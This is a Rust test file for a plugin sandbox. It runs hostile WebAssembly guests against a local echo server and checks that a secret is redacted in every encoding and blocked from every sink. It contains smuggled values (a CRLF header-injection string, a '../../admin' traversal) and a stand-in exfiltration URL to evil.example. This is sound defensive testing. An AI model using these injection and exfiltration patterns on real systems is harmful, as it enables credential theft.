//! Secrets: a server that gives back what it was sent, in every usual spelling, and a plugin that puts it wherever it can.

use std::collections::BTreeMap;
use std::sync::Arc;

use async_trait::async_trait;
use serde_json::json;
use shiftgate_model::{Auth, Grants, HttpGrant, PluginKind, SecretGrant, SecretRef, secret_placeholder};
use shiftgate_plugin::{PluginsConfig, Vault};

use super::guests::{Text, fetcher, guest, manifest};
use super::server::{Server, ok, redirect};
use super::stage::{ANSWER, Attack, Row, Stage, row};

pub(super) const ROWS: usize = 26;

const SECRET: &str = "T0p/s3cr+t\"k";
/// What of it may stand nowhere: as it is, in JSON, in a URL, in base64 at each of the three places of a group.
const SPELLINGS: [&str; 8] =
    ["s3cr+t", "T0p/s3", "s3cr%2Bt", "s3cr%2bt", "VDBw\\n", "VDBwL3MzY3IrdCJr", "QwcC9zM2NyK3Qia", "MHAvczNjcit0Im"];

/// What a server says, by path.
const ECHOES: [(&str, &str); 13] = [
    ("/plain", "T0p/s3cr+t\"k"),
    ("/json", r#"{"t":"T0p/s3cr+t\"k"}"#),
    ("/json-with-slashes", r#"{"t":"T0p\/s3cr+t\"k"}"#),
    ("/query", "T0p%2Fs3cr%2Bt%22k"),
    ("/query-in-lower-case", "T0p%2fs3cr%2bt%22k"),
    ("/json-as-go-writes-it", r#"{"t":"T0p/s3cr\u002bt\"k"}"#),
    ("/json-in-json", r#"{"t":"{\"t\":\"T0p\\/s3cr+t\\\"k\"}"}"#),
    ("/path", "T0p/s3cr+t%22k"),
    ("/page", "T0p/s3cr&#43;t&quot;k"),
    ("/base64-in-lines", "VDBw\nL3Mz\nY3IrdCJr"),
    ("/base64", "VDBwL3MzY3IrdCJr"),
    ("/base64-of-a-pair", "dXNlcjpUMHAvczNjcit0Ims="),
    ("/twice", "T0p/s3cr+t\"kT0p/s3cr+t\"k"),
];

#[derive(Debug)]
struct Drawer;

#[async_trait]
impl Vault for Drawer {
    async fn secret(&self, at: &SecretRef) -> Result<secrecy::SecretString, String> {
        match at {
            SecretRef::Env(name) if name == "SHORT" => Ok("12345".to_owned().into()),
            SecretRef::Env(name) if name == "LINES" => Ok("abc\r\nHost: evil".to_owned().into()),
            SecretRef::Env(name) if name == "CLIMBS" => Ok("../../admin".to_owned().into()),
            _ => Ok(SECRET.to_owned().into()),
        }
    }
}

fn granted(origin: &str, at: &str, to: &str, auth: Option<Auth>) -> Grants {
    let http = HttpGrant { addresses: vec!["127.0.0.0/8".into()], auth, ..HttpGrant::new(origin, &["GET"]) };
    let secret = SecretGrant { at: SecretRef::Env(at.into()), to: vec![to.to_owned()] };
    Grants { http: vec![http], secrets: BTreeMap::from([("hook".to_owned(), secret)]) }
}

fn hidden(name: impl Into<String>, attack: Attack, ends: &[&str]) -> Row {
    row(name, attack, ends).never(&SPELLINGS)
}

/// Asks for `{path}?k=<the secret>` and does with the answer's body what `then` says; its address and length are
/// `$at` and `$length`.
fn carrier(url: &str, then: &str) -> Vec<u8> {
    let start = format!(
        "(local $at i32) (local $length i32)
         (call $send (i32.const 2048) (i32.const 3) (i32.const 2051) (i32.const {length}) (i32.const 0) (i32.const 0)
           (i32.const 0) (i32.const 0) (i32.const 0) (i64.const 0) (i32.const 3) (i32.const 512))
         (local.set $at (i32.load (i32.const 536))) (local.set $length (i32.load (i32.const 540)))
         {then} {ANSWER}",
        length = url.len()
    );
    let more = format!(r#"(data (i32.const 2048) "GET{url}")"#);
    let mut manifest = manifest(PluginKind::Verification);
    manifest["requests"] = json!({ "http": [{ "from_config": "/url", "methods": ["GET"], "reason": "asks" }] });
    guest(PluginKind::Verification, &Text { start: &start, more: &more, talkative: true, ..Text::default() }, &manifest)
}

fn sinks(origin: &str) -> Vec<Row> {
    let url = format!("{origin}/plain?k={}", secret_placeholder("hook"));
    let to = |name: &str, path: &str, then: &str, ends: &[&str]| {
        let url = url.replace("/plain", path);
        hidden(
            name,
            Attack::start(carrier(&url, then)).with(json!({ "url": origin }), granted(origin, "KEY", origin, None)),
            ends,
        )
    };
    let store = |place: u32| {
        format!("(i32.store (i32.const {place}) (local.get $at)) (i32.store (i32.const {}) (local.get $length))", place + 4)
    };
    let finding =
        format!("{} (i32.store (i32.const 1052) (i32.const 4096)) (i32.store (i32.const 1056) (i32.const 1))", store(4100));
    let output = format!(
        "(i32.store (i32.const 4096) (i32.const 2048)) (i32.store (i32.const 4100) (i32.const 1)) {} (i32.store (i32.const 1076) (i32.const 4096)) (i32.store (i32.const 1080) (i32.const 1))",
        store(4104)
    );
    let error = format!("(i32.store (i32.const 1024) (i32.const 1)) {}", store(1040));
    let state = format!("(i32.store (i32.const 1032) (i32.const 1)) {} (i32.store (i32.const 1056) (i32.const 1))", store(1044));
    let again = "(call $send (i32.const 2048) (i32.const 3) (local.get $at) (local.get $length) (i32.const 0) (i32.const 0)
        (i32.const 0) (i32.const 0) (i32.const 0) (i64.const 0) (i32.const 3) (i32.const 512))";
    let panics = "(call $write (call $stderr) (local.get $at) (local.get $length) (i32.const 512)) unreachable";
    let mark = secret_placeholder("hook");
    vec![
        to("a secret in the log", "/plain", "(call $log (i32.const 1) (local.get $at) (local.get $length))", &["Info: ", &mark]),
        to("a secret in progress", "/plain", "(call $progress (local.get $at) (local.get $length))", &[&mark]),
        to("a secret in a finding", "/plain", &finding, &["findings", &mark]),
        to("a secret in an output", "/json", &output, &["outputs", &mark]),
        to("a secret in an error", "/plain", &error, &["plugin `hostile`", &mark]),
        to("a secret in the saved state", "/plain", &state, &["state"]).never(&["115,51,99,114,43,116"]),
        to("a secret in a URL elsewhere", "/elsewhere", again, &["does not ask for it"]),
        to("a secret in a panic", "/plain", panics, &["it said: ", &mark]),
    ]
}

fn echoes(origin: &str) -> Vec<Row> {
    let asks = |path: &str| {
        let url = format!("{origin}{path}?k={}", secret_placeholder("hook"));
        Attack::start(fetcher(&url)).with(json!({ "url": origin }), granted(origin, "KEY", origin, None))
    };
    let mut rows: Vec<Row> =
        ECHOES.iter().map(|(path, _)| hidden(format!("a secret that comes back at {path}"), asks(path), &["pass"])).collect();
    rows.push(hidden("a secret in a redirect", asks("/redirect"), &["pass"]));
    let bearer = Auth::Bearer { secret: SecretRef::Env("KEY".into()) };
    let echoed = Attack::start(fetcher(&format!("{origin}/headers")))
        .with(json!({ "url": origin }), granted(origin, "KEY", origin, Some(bearer)));
    // As of a job that was submitted with a secret: this call sends none.
    let later =
        Attack::start(fetcher(&format!("{origin}/json"))).with(json!({ "url": origin }), granted(origin, "KEY", origin, None));
    rows.push(hidden("a secret that an earlier call sent", later, &["pass"]));
    // The same secret has a name too, and that is what stands for it.
    rows.push(hidden("a credential that comes back", echoed, &[&format!("Bearer {}", secret_placeholder("hook"))]));
    rows
}

fn refused(origin: &str) -> Vec<Row> {
    let asks = |at: &str, to: &str| {
        let url = format!("{origin}/{}", secret_placeholder("hook"));
        Attack::start(fetcher(&url)).with(json!({ "url": origin }), granted(origin, at, to, None))
    };
    vec![
        hidden("a secret toward another host", asks("KEY", "https://hooks.example.com"), &["fail", "may not go to"]),
        hidden("a secret that climbs", asks("CLIMBS", origin), &["fail", "dots or slashes"]),
    ]
}

#[tokio::test]
async fn secrets_stay_secret() {
    let server = Server::start(|request| {
        let path = request.split([' ', '?']).nth(1).unwrap_or_default();
        match path {
            "/headers" => ok(request),
            "/elsewhere" => ok("http://evil.example/T0p/s3cr+t\"k"),
            "/redirect" => redirect(302, "/plain?T0p%2Fs3cr%2Bt%22k"),
            _ => ok(ECHOES.iter().find(|(known, _)| *known == path).map_or("nothing", |(_, body)| body)),
        }
    })
    .await;
    let stage = Stage::with(|config| PluginsConfig { vault: Arc::new(Drawer), ..config });
    let origin = server.origin();
    let rows = sinks(&origin).into_iter().chain(echoes(&origin)).chain(refused(&origin)).collect();
    stage.play("secrets", ROWS, rows).await;
}
